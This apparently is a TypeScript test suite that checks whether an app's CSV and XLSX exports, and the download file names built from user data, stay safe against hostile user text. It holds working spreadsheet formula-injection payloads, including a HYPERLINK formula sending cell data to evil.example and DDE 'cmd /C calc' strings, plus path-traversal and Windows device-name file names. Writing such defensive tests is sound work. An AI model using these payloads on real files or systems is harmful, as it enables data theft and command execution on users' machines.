/**
 * Exports carrying hostile user text: register rows, project and line names that start like a
 * formula (= + - @, tab, CR, after apostrophes, spaces or as full-width ＝＋－＠) are exported as
 * CSV, register XLSX and the draft workbook, and each cell is judged the way a spreadsheet opening
 * the file would: a CSV field runs when its text starts with = + - @ (after tabs or CRs some
 * programs strip); an XLSX cell runs only when it is a formula cell, and the only formulas allowed
 * are the draft's own totals (cell references and arithmetic, no text). File names derived from
 * user data (draft, client file, attachment downloads) must stay in the core's download folder and
 * be names Windows, macOS and Linux can all create.
 */
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { unzipSync, strFromU8 } from 'fflate';
import Papa from 'papaparse';
import { Core } from '../../electron/core/core';
import type { MethodName } from '../../shared/api/contract';
import { figuresOf, type RobustnessSuite } from './robustness-figures';
import { classifyCompiled, trapDynamicCode, trapSeesCompile } from './api-abuse-suite';

const SUITE = 'exports';

/** Text a spreadsheet runs, and text some importers run after trimming or folding widths. */
const HOSTILE_CELLS = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?"&A1,"点击")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\t\t@SUM(A1)',
  "'=1+1",
  "''+1",
  '=1+1\n=2+2',
  ' =1+1',
  '   @SUM(1)',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '　=1+1',
];

/** What Excel, LibreOffice and Google Sheets run when they open a CSV field. */
function csvRuns(text: string): boolean {
  return /^[\t\r]*[=+\-@]/.test(text) && !/^[+-]?\d+(\.\d+)?$/.test(text);
}

/** Run only by importers that trim spaces or fold full-width characters first (reported, not required). */
function csvRunsLoosely(text: string): boolean {
  return !csvRuns(text) && /^[\s\u3000]*[=+\-@＝＋－＠]/.test(text) && !/^\s*[+-]?\d+(\.\d+)?$/.test(text);
}

/** The draft's totals: cell references, numbers and arithmetic, in SUM/ROUND at most; never text. */
const SAFE_FORMULA = /^(?:SUM|ROUND|IF|IFERROR|MAX|MIN|ABS|\$?[A-Z]{1,3}\$?\d+|[0-9.]+|[:+\-*/(),<>= ])+$/;

interface XlsxCells {
  formulas: string[];
  texts: string[];
}

function xmlText(s: string): string {
  return s
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&quot;/g, '"')
    .replace(/&apos;/g, "'")
    .replace(/&#(\d+);/g, (_, n: string) => String.fromCodePoint(Number(n)))
    .replace(/&#x([0-9a-f]+);/gi, (_, n: string) => String.fromCodePoint(parseInt(n, 16)))
    .replace(/&amp;/g, '&');
}

/** Every formula and every text cell of every sheet (shared strings resolved, inline strings too). */
function readXlsx(file: string): XlsxCells {
  const zip = unzipSync(fs.readFileSync(file));
  const shared: string[] = [];
  const sst = zip['xl/sharedStrings.xml'];
  if (sst) {
    for (const si of strFromU8(sst).match(/<si>[\s\S]*?<\/si>/g) ?? []) {
      shared.push(
        xmlText((si.match(/<t[^>]*>([\s\S]*?)<\/t>/g) ?? []).map((t) => t.replace(/<[^>]+>/g, '')).join('')),
      );
    }
  }
  const out: XlsxCells = { formulas: [], texts: [] };
  for (const [name, data] of Object.entries(zip)) {
    if (!/^xl\/worksheets\/sheet\d+\.xml$/.test(name)) continue;
    const xml = strFromU8(data);
    for (const c of xml.match(/<c\b[^>]*?(?:\/>|>[\s\S]*?<\/c>)/g) ?? []) {
      const f = /<f\b[^>]*>([\s\S]*?)<\/f>|<f\b[^>]*\/>/.exec(c);
      if (f) out.formulas.push(xmlText(f[1] ?? '(shared)'));
      const type = /\bt="([^"]+)"/.exec(c)?.[1];
      const v = /<v>([\s\S]*?)<\/v>/.exec(c)?.[1];
      if (type === 's' && v !== undefined) out.texts.push(shared[Number(v)] ?? '');
      else if (type === 'inlineStr') out.texts.push(xmlText(/<t[^>]*>([\s\S]*?)<\/t>/.exec(c)?.[1] ?? ''));
      else if (type === 'str' && !f && v !== undefined) out.texts.push(xmlText(v));
    }
  }
  return out;
}

const RESERVED = /^(con|prn|aux|nul|com[0-9¹²³]|lpt[0-9¹²³])(\..*)?$/i;

/** Why a written file's name or place is wrong, or null. */
function badName(file: string, folder: string): string | null {
  const base = path.basename(file);
  if (!path.resolve(file).startsWith(path.resolve(folder) + path.sep)) return `outside ${folder}`;
  // eslint-disable-next-line no-control-regex
  if (/[\\/:*?"<>|\u0000-\u001f]/.test(base)) return 'a character Windows refuses';
  if (RESERVED.test(base) || RESERVED.test(base.split('.')[0] ?? '')) return 'a Windows device name';
  if (/[. ]$/.test(base)) return 'a trailing dot or space (Windows drops it)';
  if (Buffer.byteLength(base) > 255) return `${Buffer.byteLength(base)} bytes (most file systems allow 255)`;
  if (base.startsWith('.')) return 'a hidden file';
  return null;
}

const HOSTILE_NAMES = [
  '../../f4-escape-name',
  '..\\..\\f4-escape-name',
  '/etc/f4-escape-name',
  'C:\\Windows\\f4-escape-name',
  'CON',
  'aux',
  'nul.txt',
  'COM1',
  'a/b\\c:d*e?f"g<h>i|j',
  '...',
  'name. ',
  '.hidden',
  '\u202Egnp.exe',
  'x'.repeat(200),
  '技改'.repeat(100),
  '深圳市示例精密制造有限公司（' + '第一分厂'.repeat(40) + '）',
];

export const suite: RobustnessSuite = async ({ log }) => {
  const root = fs.mkdtempSync(path.join(os.tmpdir(), 'f4-exports-'));
  const coreTmp = path.join(root, 'tmp');
  fs.mkdirSync(coreTmp);
  const savedTmp = process.env.TMPDIR;
  process.env.TMPDIR = coreTmp;
  const core = await Core.open({
    workspacePath: path.join(root, 'ws', 'workspace.sqlite'),
    autoBackupEveryMs: 0,
    logger: { error: () => {}, info: () => {} },
  });
  // exceljs (and bluebird under it) runs in these exports: anything they compile at run time shows here.
  const trap = trapDynamicCode();
  const trapWorks = trapSeesCompile(trap);
  trap.armed = true;
  const call = async <T>(method: MethodName, input: unknown): Promise<T> => {
    const r = await core.dispatch(method, input);
    if (!r.ok) throw new Error(`${method}: ${r.error.code} ${JSON.stringify(r.error.issues).slice(0, 300)}`);
    return r.result as T;
  };
  const downloadPath = (fileId: string) => core.files.resolve(fileId, 'download').path;
  try {
    const ent = await call<{ id: number }>('enterprise.create', {
      name: '深圳市示例精密制造有限公司',
      uscc: '914403001922038216',
      district: 'baoan',
      industryDivision: '39',
      manufacturingType: 'discrete',
      years: [{ year: 2025, employees: 320, revenueYuan: 25_000_000, outputValueYuan: 30_000_000 }],
    });
    // Every text field of the register gets each hostile value once.
    const textFields = ['asset_code', 'name', 'model', 'maker', 'workshop', 'notes'] as const;
    let rowsAdded = 0;
    for (const [i, text] of HOSTILE_CELLS.entries()) {
      const row: Record<string, unknown> = { name: `设备${i}`, category: 'compressor', quantity: 1 };
      for (const f of textFields) row[f] = f === 'asset_code' ? `${text}#${i}` : f === 'name' ? text : text;
      const r = await core.dispatch('equipment.add', { enterpriseId: ent.id, row });
      if (r.ok) rowsAdded += 1;
      else log(`row ${JSON.stringify(text)} refused: ${r.error.code} ${JSON.stringify(r.error.issues)}`);
    }

    // Register CSV.
    const csv = await call<{ file: { fileId: string } }>('equipment.export', {
      enterpriseId: ent.id,
      format: 'csv',
    });
    const csvText = fs.readFileSync(downloadPath(csv.file.fileId), 'utf8').replace(/^\uFEFF/, '');
    const parsed = Papa.parse<string[]>(csvText, { skipEmptyLines: true });
    const csvCells = parsed.data.slice(1).flat();
    const csvRun = csvCells.filter(csvRuns);
    const csvLoose = csvCells.filter(csvRunsLoosely);

    // Register XLSX.
    const xlsx = await call<{ file: { fileId: string } }>('equipment.export', {
      enterpriseId: ent.id,
      format: 'xlsx',
    });
    const reg = readXlsx(downloadPath(xlsx.file.fileId));

    // Draft workbook: a project and lines named like formulas.
    const project = await call<{ id: number }>('projects.create', {
      enterpriseId: ent.id,
      name: '=HYPERLINK("http://evil.example","技改")',
      direction: 'green',
      site: '@SUM(1+1)',
      description: "=cmd|' /C calc'!A0",
    });
    for (const [i, text] of HOSTILE_CELLS.entries()) {
      const r = await core.dispatch('projects.addLine', {
        projectId: project.id,
        line: {
          category: 'equipment',
          name: text.trim() === '' ? `x${i}` : text,
          model: text,
          quantity: 1,
          unitPriceFen: 100_000 * (i + 1),
          supplier: text,
        },
      });
      if (!r.ok)
        log(`line ${JSON.stringify(text)} refused: ${r.error.code} ${JSON.stringify(r.error.issues)}`);
    }
    const draft = await call<{ file: { fileId: string } }>('drafts.export', {
      projectId: project.id,
      format: 'xlsx',
    });
    const dx = readXlsx(downloadPath(draft.file.fileId));
    const unsafeFormulas = dx.formulas.filter((f) => !SAFE_FORMULA.test(f));
    const draftHostileFound = HOSTILE_CELLS.filter((h) =>
      dx.texts.some((t) => t.includes(h.trim().replace(/\r/g, ''))),
    );
    const regHostileFound = HOSTILE_CELLS.filter((h) =>
      reg.texts.some((t) => t.includes(h.replace(/\r/g, '').trim())),
    );
    const csvHostileFound = HOSTILE_CELLS.filter((h) =>
      csvCells.some((t) => t.includes(h.replace(/\r/g, '').trim())),
    );

    // File names from user data.
    const nameProblems: string[] = [];
    const nameFailures: string[] = [];
    let namesTried = 0;
    for (const [i, name] of HOSTILE_NAMES.entries()) {
      namesTried += 1;
      const p = await core.dispatch('projects.create', { enterpriseId: ent.id, name, direction: 'green' });
      if (!p.ok) {
        nameFailures.push(`project ${JSON.stringify(name)}: ${p.error.code}`);
        continue;
      }
      const pid = (p.result as { id: number }).id;
      const d = await core.dispatch('drafts.export', { projectId: pid, format: 'xlsx' });
      if (!d.ok) nameFailures.push(`draft of ${JSON.stringify(name).slice(0, 40)}: ${d.error.code}`);
      else {
        const why = badName(downloadPath((d.result as { file: { fileId: string } }).file.fileId), coreTmp);
        if (why) nameProblems.push(`draft of ${JSON.stringify(name).slice(0, 40)}: ${why}`);
      }

      // A client file named after the enterprise.
      namesTried += 1;
      const e = await core.dispatch('enterprise.create', { name, manufacturingType: 'discrete', years: [] });
      if (!e.ok) nameFailures.push(`enterprise ${JSON.stringify(name)}: ${e.error.code}`);
      else {
        const h = await core.dispatch('handoff.export', { enterpriseId: (e.result as { id: number }).id });
        if (!h.ok) nameFailures.push(`handoff of ${JSON.stringify(name).slice(0, 40)}: ${h.error.code}`);
        else {
          const why = badName(downloadPath((h.result as { file: { fileId: string } }).file.fileId), coreTmp);
          if (why) nameProblems.push(`handoff of ${JSON.stringify(name).slice(0, 40)}: ${why}`);
        }
      }

      // An attachment whose original name is hostile, taken out again as a download.
      namesTried += 1;
      const src = path.join(root, `src-${i}.pdf`);
      fs.writeFileSync(src, '%PDF-1.4 test');
      const ref = core.files.registerRead(src, name);
      const checklist = await call<{ items: { key: string }[] }>('drafts.checklist.get', { projectId: pid });
      const add = await core.dispatch('drafts.attachments.add', {
        projectId: pid,
        itemKey: checklist.items[0]!.key,
        fileId: ref.fileId,
      });
      if (!add.ok) {
        nameFailures.push(`attach ${JSON.stringify(name).slice(0, 40)}: ${add.error.code}`);
        continue;
      }
      const open = await core.dispatch('drafts.attachments.open', {
        projectId: pid,
        attachmentId: (add.result as { id: number }).id,
      });
      if (!open.ok)
        nameFailures.push(`open attachment ${JSON.stringify(name).slice(0, 40)}: ${open.error.code}`);
      else {
        const why = badName(downloadPath((open.result as { file: { fileId: string } }).file.fileId), coreTmp);
        if (why) nameProblems.push(`attachment ${JSON.stringify(name).slice(0, 40)}: ${why}`);
      }
    }
    const escaped = [root, coreTmp, os.tmpdir(), '/etc', process.cwd()].flatMap((d) =>
      fs.existsSync(d)
        ? fs
            .readdirSync(d)
            .filter((f) => f.includes('f4-escape-name'))
            .map((f) => path.join(d, f))
        : [],
    );

    const compiled = classifyCompiled(trap.seen);
    log(
      `CSV ${csvCells.length} cells, register XLSX ${reg.texts.length} text cells / ${reg.formulas.length} formulas, ` +
        `draft XLSX ${dx.texts.length} text cells / ${dx.formulas.length} formulas; ${namesTried} user-named files`,
    );
    const fig = figuresOf(SUITE);
    return [
      fig('hostile register rows exported', rowsAdded, { atLeast: HOSTILE_CELLS.length }),
      fig('hostile values found in the CSV', csvHostileFound.length, { atLeast: HOSTILE_CELLS.length }),
      fig(
        'CSV cells a spreadsheet would run',
        csvRun.length,
        { atMost: 0 },
        csvRun.map((c) => JSON.stringify(c)),
      ),
      fig(
        'CSV cells run only by trimming/width-folding importers',
        csvLoose.length,
        undefined,
        csvLoose.map((c) => JSON.stringify(c)),
      ),
      fig('hostile values found in the register XLSX', regHostileFound.length, {
        atLeast: HOSTILE_CELLS.length,
      }),
      fig('register XLSX formula cells', reg.formulas.length, { atMost: 0 }, reg.formulas),
      fig('hostile values found in the draft XLSX', draftHostileFound.length, {
        atLeast: HOSTILE_CELLS.length,
      }),
      fig('draft XLSX formulas (the totals)', dx.formulas.length),
      fig(
        'draft XLSX formulas other than totals over cells',
        unsafeFormulas.length,
        { atMost: 0 },
        unsafeFormulas,
      ),
      fig('user-named exports tried', namesTried, { atLeast: HOSTILE_NAMES.length * 3 }),
      fig('user-named exports that failed', nameFailures.length, { atMost: 0 }, nameFailures),
      fig(
        'user-named files outside the folder or with unsafe names',
        nameProblems.length,
        { atMost: 0 },
        nameProblems,
      ),
      fig('Function/eval trap self-check', trapWorks ? 1 : 0, { atLeast: 1 }),
      fig(
        'row factories keyed by anything but column names',
        compiled.oddKeys.length,
        { atMost: 0 },
        compiled.oddKeys,
      ),
      fig(
        'other code compiled at run time (new Function / eval) during exports',
        compiled.other.length,
        { atMost: 0 },
        compiled.other,
      ),
      fig('files escaping to a name-derived path', escaped.length, { atMost: 0 }, escaped),
    ];
  } finally {
    trap.restore();
    core.close();
    if (savedTmp === undefined) delete process.env.TMPDIR;
    else process.env.TMPDIR = savedTmp;
    fs.rmSync(root, { recursive: true, force: true });
  }
};
